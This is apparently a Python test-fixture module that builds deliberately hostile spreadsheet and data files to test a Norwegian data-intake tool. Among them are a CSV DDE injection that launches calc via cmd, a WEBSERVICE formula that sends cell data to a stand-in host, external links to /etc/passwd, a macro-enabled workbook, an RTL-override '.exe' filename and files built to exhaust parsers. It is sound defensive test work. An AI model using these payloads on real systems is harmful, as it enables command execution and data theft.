"""Files that were made to do harm, of every kind that is read; each function takes a folder.

What unfolds without end, reads other files or is cut short is in tests/intake/faulty_*.py.
"""

import json
import struct
from collections.abc import Callable
from pathlib import Path
from zipfile import ZipFile

import xlsxwriter
import xlwt

from tests.formats.make import FOLDER
from tests.formats.writers import ods
from tests.intake.small_exports import HEADINGS, export, person
from tests.intake.workbook_parts import KIND, OFFICE, parts, sheet_xml, zipped

COLUMNS, LETTERS = 16_384, 32_767  # the most that a worksheet and a cell of it hold
TURNED = "Bodø\u202exslx.exe\u202c\u200f"  # what is read is not what stands there
NO_LETTERS = "a\x01b\x0bc\x1bd\x7fe\x85f\ufffeg\ufeffh"


def csv_with_all_columns(folder: Path) -> Path:
    extra = [f"x{number}" for number in range(COLUMNS)]
    return export(folder / "bred.csv", person(), headings=[*HEADINGS, *extra])


def csv_with_more_columns_than_letters(folder: Path) -> Path:
    return export(folder / "bredere.csv", person(), headings=[*HEADINGS, *[""] * 20_000, "x"])


def xls_with_a_cell_far_out(folder: Path) -> Path:
    """The column of a cell is one that no spreadsheet has."""
    content = (FOLDER / "table.xls").read_bytes()
    label = content.index(struct.pack("<HH", 0x00FD, 10), 2000)  # a text, by row and column
    path = folder / "langt-ute.xls"
    path.write_bytes(content[: label + 6] + struct.pack("<H", 40_000) + content[label + 8 :])
    return path


def xlsx_with_all_columns(folder: Path) -> Path:
    return _xlsx(folder / "bred.xlsx", [*HEADINGS, *(f"x{n}" for n in range(COLUMNS - 7))])


def json_with_too_many_keys(folder: Path) -> Path:
    line = json.dumps({f"x{number}": 1 for number in range(COLUMNS + 10)})
    return _text(folder / "bred.jsonl", line)


def csv_with_long_cells(folder: Path) -> Path:
    return export(folder / "lang.csv", person(who="x" * LETTERS, barrier="æ" * LETTERS))


def xlsx_with_long_cells(folder: Path) -> Path:
    return _xlsx(folder / "lang.xlsx", HEADINGS, person(barrier="æ" * LETTERS))


def xls_with_long_cells(folder: Path) -> Path:
    return _xls(folder / "lang.xls", person(barrier="æ" * (LETTERS - 1)))


def ods_with_long_cells(folder: Path) -> Path:
    ods(folder / "lang.ods", [list(HEADINGS), person(barrier="æ" * LETTERS)])
    return folder / "lang.ods"


def turned_round(folder: Path) -> Path:
    row = person(TURNED, who=TURNED, barrier=TURNED)
    return export(folder / f"{TURNED}.csv", row, headings=[*HEADINGS, TURNED])


def signs_that_are_no_letters(folder: Path) -> Path:
    return export(folder / "tegn.csv", person(barrier=NO_LETTERS), headings=[*HEADINGS, NO_LETTERS])


def escaped_signs_in_xlsx(folder: Path) -> Path:
    rows = "".join(
        f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>{text}</t></is></c></row>'
        for row, text in ((1, "Kommune"), (2, "Bod_x0000_ø_xD800__x202E_"))
    )
    return zipped(folder / "unnsluppet.xlsx", parts(sheet_xml(rows)))


def formulas_in_csv(folder: Path) -> Path:
    return export(folder / "formel.csv", person(who="=1+1", barrier="=cmd|' /C calc'!A0"))


def formulas_in_xlsx(folder: Path) -> Path:
    path = folder / "formel.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEADINGS)
        sheet.write_row(1, 0, [str(it) for it in person()])
        sheet.write_formula(1, 2, '=WEBSERVICE("http://x.invalid/"&B2)', None, "kari@x.no")
        sheet.write_formula(1, 6, '=HYPERLINK("http://x.invalid/","her")', None, "her")
    return path


def formulas_in_xls(folder: Path) -> Path:
    return _xls(
        folder / "formel.xls", person(barrier=xlwt.Formula('HYPERLINK("http://x.invalid/")'))
    )


def same_heading_twice(folder: Path) -> Path:
    return export(folder / "dobbelt.csv", [*person(), 5], headings=[*HEADINGS, HEADINGS[4]])


def same_key_twice(folder: Path) -> Path:
    return _text(folder / "dobbelt.jsonl", '{"Kommune": "Bodø", "Kommune": "Rana", "gen1-1": 3}')


def lone_surrogates(folder: Path) -> Path:
    return _text(
        folder / "halvt.jsonl", '{"Kommune": "Bod\\ud800", "\\udc00": "\\ud83d", "gen1-1": 1}'
    )


def lone_surrogates_in_csv(folder: Path) -> Path:
    path = folder / "halvt.csv"
    path.write_bytes("Kommune;gen1-1\nBod\ud800;3\n".encode("utf-8", "surrogatepass"))
    return path


def nul_in_json(folder: Path) -> Path:
    return _text(folder / "nul.jsonl", '{"Kommune": "Bod\\u0000ø", "gen1-1": 3}\n\0\0\n')


def numbers_without_end(folder: Path) -> Path:
    return _text(folder / "tall.jsonl", f'{{"Kommune": {"9" * 100_000}, "gen1-1": 1e400}}')


def no_numbers(folder: Path) -> Path:
    return _text(folder / "ikke-tall.jsonl", '{"Kommune": "Bodø", "gen1-1": NaN}\n{"a": -Infinity}')


def lists_in_lists(folder: Path) -> Path:
    return _text(folder / "dypt.jsonl", '{"Kommune": ' + "[" * 100_000 + "]" * 100_000 + "}")


def objects_in_objects(folder: Path) -> Path:
    return _text(folder / "dypt-2.jsonl", '{"a":' * 50_000 + "1" + "}" * 50_000)


def elements_in_elements(folder: Path) -> Path:
    return _ods_content(folder / "dypt.ods", "<table:a>" * 200_000 + "</table:a>" * 200_000)


def macros(folder: Path) -> Path:
    found = parts(sheet_xml())
    content = found["[Content_Types].xml"].replace(
        f"{KIND}.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    )
    found["[Content_Types].xml"] = content.replace(
        "<Override", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        "<Override", 1
    )  # fmt: skip
    return zipped(folder / "makro.xlsm", found | {"xl/vbaProject.bin": "Sub Auto_Open()"})


def links_elsewhere(folder: Path) -> Path:
    found = parts(sheet_xml('<row r="1"><c r="A1"><f>[1]Ark1!A1</f><v>Kommune</v></c></row>'))
    link = f'<Relationship Id="r1" Type="{OFFICE}/externalLinkPath" TargetMode="External" '
    found["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{link}'
        'Target="file:///etc/passwd"/></Relationships>'
    )
    found["xl/externalLinks/externalLink1.xml"] = "<externalLink/>"
    return zipped(folder / "lenke.xlsx", found)


def scripts_in_ods(folder: Path) -> Path:
    return _ods_content(
        folder / "skript.ods",
        "<office:scripts><office:event-listeners/></office:scripts>"
        '<table:table xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file:///etc/passwd"/>',
    )


def sav_that_claims_much(folder: Path) -> Path:
    """Says that it has two thousand million variables and cases."""
    content = bytearray((FOLDER / "table.sav").read_bytes())
    content[68:72] = struct.pack("<i", 2_000_000_000)
    content[80:84] = struct.pack("<i", 2_000_000_000)
    (folder / "mye.sav").write_bytes(content)
    return folder / "mye.sav"


def xls_in_a_circle(folder: Path) -> Path:
    """Each sector of the file says that the next one is itself."""
    content = bytearray((FOLDER / "table.xls").read_bytes())
    table = 512 * (struct.unpack_from("<I", content, 76)[0] + 1)
    for sector in range(128):
        struct.pack_into("<I", content, table + 4 * sector, sector)
    (folder / "sirkel.xls").write_bytes(content)
    return folder / "sirkel.xls"


def _xlsx(path: Path, *rows: object) -> Path:
    with xlsxwriter.Workbook(path, {"strings_to_formulas": False}) as book:
        sheet = book.add_worksheet()
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
    return path


def _xls(path: Path, row: list[object]) -> Path:
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("Ark1")
    for column, (heading, cell) in enumerate(zip(HEADINGS, row, strict=True)):
        sheet.write(0, column, heading)
        sheet.write(1, column, cell)
    book.save(str(path))
    return path


def _text(path: Path, text: str) -> Path:
    path.write_text(text + "\n", encoding="utf-8")
    return path


def _ods_content(path: Path, inside: str) -> Path:
    """A spreadsheet with something else before its first table."""
    whole = path.with_suffix(".whole")
    ods(whole, [list(HEADINGS), person()])
    with ZipFile(whole) as archive, ZipFile(path, "w") as changed:
        for name in archive.namelist():
            text = archive.read(name).decode()
            if name == "content.xml":
                text = text.replace("<office:spreadsheet>", f"<office:spreadsheet>{inside}", 1)
            changed.writestr(name, text)
    whole.unlink()
    return path


HOSTILE: list[Callable[[Path], Path]] = [
    csv_with_all_columns, csv_with_more_columns_than_letters, xls_with_a_cell_far_out,
    xlsx_with_all_columns, json_with_too_many_keys, csv_with_long_cells,
    xlsx_with_long_cells, xls_with_long_cells, ods_with_long_cells, turned_round,
    signs_that_are_no_letters, escaped_signs_in_xlsx, formulas_in_csv, formulas_in_xlsx,
    formulas_in_xls, same_heading_twice, same_key_twice, lone_surrogates, lone_surrogates_in_csv,
    nul_in_json, numbers_without_end, no_numbers, lists_in_lists, objects_in_objects,
    elements_in_elements, macros, links_elsewhere, scripts_in_ods, sav_that_claims_much,
    xls_in_a_circle,
]  # fmt: skip
